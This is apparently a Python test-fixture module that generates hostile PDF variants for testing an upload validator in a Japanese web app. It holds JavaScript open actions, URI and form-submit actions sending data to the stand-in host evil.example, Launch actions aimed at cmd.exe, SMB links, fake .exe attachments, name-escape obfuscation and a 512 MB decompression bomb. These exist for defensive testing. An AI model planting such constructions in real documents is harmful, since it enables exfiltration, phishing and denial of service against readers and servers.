"""Real PDFs made for the tests (reportlab), and damaged or encrypted variants (pypdf)."""

import io
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import A4
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen import canvas

FONT = "HeiseiKakuGo-W5"
pdfmetrics.registerFont(UnicodeCIDFont(FONT))


def make_pdf(pages: int = 1, text: str = "建設工事請負契約書") -> bytes:
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4)
    for i in range(pages):
        c.setFont(FONT, 14)
        c.drawString(72, 760, f"{text} {i + 1}/{pages}")
        c.showPage()
    c.save()
    return buf.getvalue()


def pdf_upload(name: str = "建設工事請負契約書.pdf", pages: int = 3):
    """A PDF as a browser uploads it."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, make_pdf(pages=pages), "application/pdf")


def make_encrypted_pdf(user_password: str = "secret") -> bytes:
    """Encrypted; with ``user_password=""`` it opens without one and only the permissions
    password restricts printing and editing (as office software's 「制限」 option makes)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    writer.encrypt(user_password=user_password, owner_password="owner", permissions_flag=0)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# A minimal PNG (1x1 pixel): a picture renamed to .pdf must be refused.
PNG_BYTES = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def make_pdf_with_javascript() -> bytes:
    from pypdf.actions import JavaScript

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    writer.add_open_action(JavaScript("app.alert('x');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def make_pdf_with_embedded_file() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def make_deeply_nested_pdf(depth: int = 5000) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n"
        + b"[" * depth
        + b"]" * depth
        + b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def make_large_pdf(size: int) -> bytes:
    """A parseable PDF of exactly ``size`` bytes: pages whose content streams carry random
    (incompressible) data, as a scanned drawing would."""
    import os

    from pypdf.generic import DecodedStreamObject, NameObject

    def build(noise_bytes: list[int]) -> bytes:
        writer = PdfWriter()
        for n in noise_bytes:
            page = writer.add_blank_page(595, 842)
            stream = DecodedStreamObject()
            stream.set_data(b"BT /F1 12 Tf 72 760 Td (drawing) Tj ET\n% " + b"0" * n + b"\n")
            page[NameObject("/Contents")] = writer._add_object(stream)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    per_page = 1024 * 1024
    chunks = [per_page] * max(1, size // per_page)
    probe = len(build(chunks))
    chunks[-1] += size - probe
    data = build(chunks)
    assert len(data) == size, (len(data), size)
    # replace the zero padding with noise of the same length (the size does not change)
    out = bytearray(data)
    start = 0
    while (at := out.find(b"(drawing) Tj ET\n% ", start)) != -1:
        begin = at + len(b"(drawing) Tj ET\n% ")
        end = out.index(b"\n", begin)
        out[begin:end] = os.urandom((end - begin) // 2 + 1).hex().encode()[: end - begin]
        start = end
    return bytes(out)


# --- hostile variants: active content wherever a viewer looks for it -------------------------
# Each is a real document (reportlab) changed with pypdf the way an attacker's tool would.


def _edit(mutate, base: bytes | None = None) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(base or make_pdf(pages=2))))
    mutate(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _d(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


def _n(name: str) -> NameObject:
    return NameObject(f"/{name}")


def _s(text: str) -> TextStringObject:
    return TextStringObject(text)


def _rect() -> ArrayObject:
    return ArrayObject([NumberObject(n) for n in (72, 700, 300, 720)])


def js(code: str = "app.alert('請求書を確認してください');") -> DictionaryObject:
    return _d(Type=_n("Action"), S=_n("JavaScript"), JS=_s(code))


def _annotate(writer: PdfWriter, annot: DictionaryObject, page: int = 0) -> IndirectObject:
    ref = writer._add_object(annot)
    target = writer.pages[page]
    annots = target.get("/Annots")
    if annots is None:
        annots = ArrayObject()
        target[NameObject("/Annots")] = annots
    annots.get_object().append(ref)
    return ref


def _link(action: DictionaryObject) -> DictionaryObject:
    return _d(Type=_n("Annot"), Subtype=_n("Link"), Rect=_rect(), A=action)


def _widget(writer: PdfWriter, **extra) -> None:
    field = _d(Type=_n("Annot"), Subtype=_n("Widget"), FT=_n("Tx"), T=_s("金額"), Rect=_rect())
    field.update({NameObject(f"/{k}"): v for k, v in extra.items()})
    ref = _annotate(writer, field)
    writer._root_object[NameObject("/AcroForm")] = _d(Fields=ArrayObject([ref]))


def _open_action(action: DictionaryObject):
    def mutate(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return mutate


def _goto(writer: PdfWriter) -> DictionaryObject:
    dest = ArrayObject([writer.pages[0].indirect_reference, _n("Fit")])
    return _d(S=_n("GoTo"), D=dest)


def _filespec(name: str = "invoice.exe") -> DictionaryObject:
    embedded = DecodedStreamObject()
    embedded.set_data(b"MZ\x90\x00 not really a program")
    embedded[NameObject("/Type")] = _n("EmbeddedFile")
    return _d(Type=_n("Filespec"), F=_s(name), UF=_s(name), EF=_d(F=embedded))


def _js_names(writer):
    """A document-level script in the catalogue's /Names /JavaScript tree."""
    script = writer._add_object(js("app.launchURL('https://evil.example/', true);"))
    tree = _d(Names=ArrayObject([_s("init"), script]))
    writer._root_object[NameObject("/Names")] = _d(JavaScript=writer._add_object(tree))


def _widget_aa(writer):
    _widget(writer, AA=_d(K=js("AFNumber_Keystroke(0, 0, 0, 0, '', true); app.alert(1);")))


def _openaction_next(writer):
    action = _goto(writer)
    action[NameObject("/Next")] = js()
    writer._root_object[NameObject("/OpenAction")] = action


def _openaction_next_array_uri(writer):
    action = _goto(writer)
    uri = _d(S=_n("URI"), URI=_s("https://evil.example/opened?doc=1"))
    action[NameObject("/Next")] = ArrayObject([_goto(writer), uri])
    writer._root_object[NameObject("/OpenAction")] = action


def _rendition(writer):
    screen = _d(
        Type=_n("Annot"),
        Subtype=_n("Screen"),
        Rect=_rect(),
        A=_d(S=_n("Rendition"), OP=NumberObject(0)),
    )
    _annotate(writer, screen)


def _rendition_action_in_link(writer):
    _annotate(writer, _link(_d(S=_n("Rendition"), OP=NumberObject(0))))


def _xfa(writer):
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>')
    writer._root_object[NameObject("/AcroForm")] = _d(
        Fields=ArrayObject(), XFA=writer._add_object(xfa)
    )


def _launch_behind_dangling(writer):
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [IndirectObject(9999, 0, writer), writer._add_object(_link(_launch()))]
    )


def _launch():
    return _d(S=_n("Launch"), F=_s("C:\\Windows\\System32\\cmd.exe"), NewWindow=BooleanObject(True))


def _dangling_only(writer):
    writer.pages[1][NameObject("/Annots")] = ArrayObject([IndirectObject(9998, 0, writer)])


def _af(writer):
    writer._root_object[NameObject("/AF")] = ArrayObject([writer._add_object(_filespec())])


def _file_attachment_annot(writer):
    annot = _d(Type=_n("Annot"), Subtype=_n("FileAttachment"), Rect=_rect(), FS=_filespec())
    _annotate(writer, annot)


def _gotor_smb(writer):
    action = _d(
        S=_n("GoToR"),
        F=_s("\\\\203.0.113.5\\share\\請求書.pdf"),
        D=ArrayObject([NumberObject(0), _n("Fit")]),
    )
    _annotate(writer, _link(action))


def _gote(writer):
    target = _d(R=_n("C"), N=_s("attachment.pdf"))
    _annotate(writer, _link(_d(S=_n("GoToE"), T=target, D=ArrayObject([NumberObject(0)]))))


def _submit_form(writer):
    spec = _d(FS=_n("URL"), F=_s("https://evil.example/collect"))
    _widget(writer, A=_d(S=_n("SubmitForm"), F=spec, Flags=NumberObject(4)))


def _import_data(writer):
    writer._root_object[NameObject("/OpenAction")] = _d(S=_n("ImportData"), F=_s("data.fdf"))


def _uri_openaction(writer):
    writer._root_object[NameObject("/OpenAction")] = _d(
        S=_n("URI"), URI=_s("https://evil.example/opened")
    )


def _uri_page_aa(writer):
    writer.pages[0][NameObject("/AA")] = _d(O=_d(S=_n("URI"), URI=_s("https://evil.example/o")))


def _uri_file_link(writer):
    _annotate(writer, _link(_d(S=_n("URI"), URI=_s("file://203.0.113.5/share/x.exe"))))


def _richmedia(writer):
    annot = _d(
        Type=_n("Annot"),
        Subtype=_n("RichMedia"),
        Rect=_rect(),
        RichMediaContent=_d(Assets=_d(Names=ArrayObject())),
    )
    _annotate(writer, annot)


def _outline_js(writer):
    outlines = _d(Type=_n("Outlines"))
    outlines_ref = writer._add_object(outlines)
    item = _d(Title=_s("目次"), Parent=outlines_ref, A=js())
    item_ref = writer._add_object(item)
    outlines[NameObject("/First")] = item_ref
    outlines[NameObject("/Last")] = item_ref
    outlines[NameObject("/Count")] = NumberObject(1)
    writer._root_object[NameObject("/Outlines")] = outlines_ref


def _page_aa_launch(writer):
    writer.pages[1][NameObject("/AA")] = _d(C=_launch())


def _link_launch(writer):
    _annotate(writer, _link(_launch()))


def _rendition_openaction(writer):
    writer._root_object[NameObject("/OpenAction")] = _d(S=_n("Rendition"), OP=NumberObject(0))


HOSTILE_EDITS = {
    "js-openaction": _open_action(js()),
    "js-names-tree": _js_names,
    "js-widget-aa": _widget_aa,
    "js-openaction-next": _openaction_next,
    "js-outline-item": _outline_js,
    "rendition-screen": _rendition,
    "rendition-link": _rendition_action_in_link,
    "rendition-openaction": _rendition_openaction,
    "xfa": _xfa,
    "launch-behind-dangling-ref": _launch_behind_dangling,
    "launch-link": _link_launch,
    "launch-page-aa": _page_aa_launch,
    "dangling-ref": _dangling_only,
    "af-embedded-file": _af,
    "file-attachment-annot": _file_attachment_annot,
    "gotor-smb": _gotor_smb,
    "gote": _gote,
    "submitform": _submit_form,
    "importdata": _import_data,
    "uri-openaction": _uri_openaction,
    "uri-openaction-next-array": _openaction_next_array_uri,
    "uri-page-aa": _uri_page_aa,
    "uri-file-scheme-link": _uri_file_link,
    "richmedia": _richmedia,
}


def make_hostile_pdfs(base: bytes | None = None) -> dict[str, bytes]:
    """Every active-content variant, plus the byte-level ones (name escapes, broken xref)."""
    corpus = {name: _edit(edit, base) for name, edit in HOSTILE_EDITS.items()}
    corpus["js-escaped-names"] = _escaped_names(corpus["js-openaction"])
    corpus["broken-xref"] = _broken_xref(make_pdf())
    return corpus


def _escaped_names(data: bytes) -> bytes:
    """/JavaScript and /JS spelt with #xx escapes (a viewer reads them as the same names), the
    script shortened so that every byte offset stays right."""
    start = data.index(b"/S /JavaScript")
    end = data.index(b"endobj", start)
    old = data[start:end]
    script = old[old.index(b"/JS (") + 5 : old.rindex(b")")]
    body = b"/S /J#61vaScript /J#53 ("
    new = old[: old.index(b"/S /JavaScript")] + body
    keep = len(old) - len(new) - 1 - len(old[old.rindex(b")") + 1 :])
    new = new + script[:keep] + b")" + old[old.rindex(b")") + 1 :]
    assert len(new) == len(old)
    prefix = data[:start]
    # the /Type /Action entry may come before /S: keep what precedes it
    return prefix + new + data[end:]


def _broken_xref(data: bytes) -> bytes:
    """The startxref pointer moved: the reader has to rebuild the table by guessing."""
    at = data.rindex(b"startxref")
    number = data[at + 10 :].split(b"\n", 1)[0]
    wrong = str(int(number) - 7).encode().rjust(len(number))
    return data[: at + 10] + wrong + data[at + 10 + len(number) :]


# Allowed: a web link and an internal link — nothing runs until the reader clicks.
def make_pdf_with_web_link() -> bytes:
    return _edit(
        lambda w: _annotate(
            w, _link(_d(S=_n("URI"), URI=_s("https://www.city.ashikaga.tochigi.jp/")))
        )
    )


def make_pdf_with_internal_link() -> bytes:
    return _edit(lambda w: _annotate(w, _link(_goto(w))))


# --- hostile variants: denial of service --------------------------------------------------------


def raw_pdf(objects: list[bytes], *, root: int = 1) -> bytes:
    """A PDF written by hand: ``objects[i]`` is object i+1; a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    return bytes(out)


def make_many_annotations_pdf(pages: int = 2000, per_page: int = 10) -> bytes:
    """~2.3 MB: more pages than the cap, each with links; the old check walked every page's
    annotations before it looked at the page count (83 s)."""
    first_page = 3
    first_annot = first_page + pages
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects.append(b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids))
    for i in range(pages):
        annots = b" ".join(b"%d 0 R" % (first_annot + i * per_page + j) for j in range(per_page))
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [%s] >>" % annots
        )
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /P %d 0 R >>"
    for i in range(pages):
        objects.extend(link % (first_page + i) for _ in range(per_page))
    return raw_pdf(objects)


def make_lying_page_count_pdf(pages: int = 20000) -> bytes:
    """/Count says 1; the tree holds 20,000 references to one page."""
    kids = b" ".join(b"3 0 R" for _ in range(pages))
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [%s] >>" % kids,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def _flate_stream(content: bytes) -> bytes:
    import zlib

    packed = zlib.compress(content, 9)
    return (
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    )


def make_shared_stream_pdf(pages: int = 20, stream_bytes: int = 1024 * 1024) -> bytes:
    """~5 KB: every page draws the same content stream that inflates to ``stream_bytes`` of text
    operators; a text extractor parses it once per page (59 s in the notice reader)."""
    line = b"BT /F1 9 Tf 72 700 Td (AAAAAAAAAAAAAAAAAAAAAAAAAAAA) Tj ET\n"
    content = line * (stream_bytes // len(line))
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids),
        _flate_stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>"
        for _ in range(pages)
    ]
    return raw_pdf(objects)


def make_decompression_bomb_pdf(inflated: int = 512 * 1024 * 1024) -> bytes:
    """~500 KB that inflates to 512 MB (one page's content stream)."""
    import zlib

    packer = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    packed = b"".join(packer.compress(chunk) for _ in range(inflated // len(chunk)))
    packed += packer.flush()
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
            stream + b"\nendstream",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>",
        ]
    )


def make_many_objects_pdf(count: int = 120_000) -> bytes:
    """A page whose resources chain through 120,000 tiny objects (the walk is bounded)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /X 4 0 R >>",
    ]
    objects += [b"<< /N %d 0 R >>" % (5 + i) for i in range(count)]
    objects.append(b"<< >>")
    return raw_pdf(objects)


# The files that test the parse budget, by name; each built on demand (the bomb alone takes
# seconds to compress, which every test process would otherwise pay when it collects).
BUDGET_BUILDERS: dict[str, Callable[[], bytes]] = {
    "many-annotations-2.3mb": make_many_annotations_pdf,
    "lying-page-count": make_lying_page_count_pdf,
    "shared-1mb-stream-20-pages": make_shared_stream_pdf,
    "shared-8mb-stream-40-pages": lambda: make_shared_stream_pdf(
        pages=40, stream_bytes=8 * 1024 * 1024
    ),
    "decompression-bomb-512mb": make_decompression_bomb_pdf,
    "many-objects": make_many_objects_pdf,
    "deeply-nested": make_deeply_nested_pdf,
}


def make_budget_corpus() -> dict[str, bytes]:
    return {name: build() for name, build in BUDGET_BUILDERS.items()}
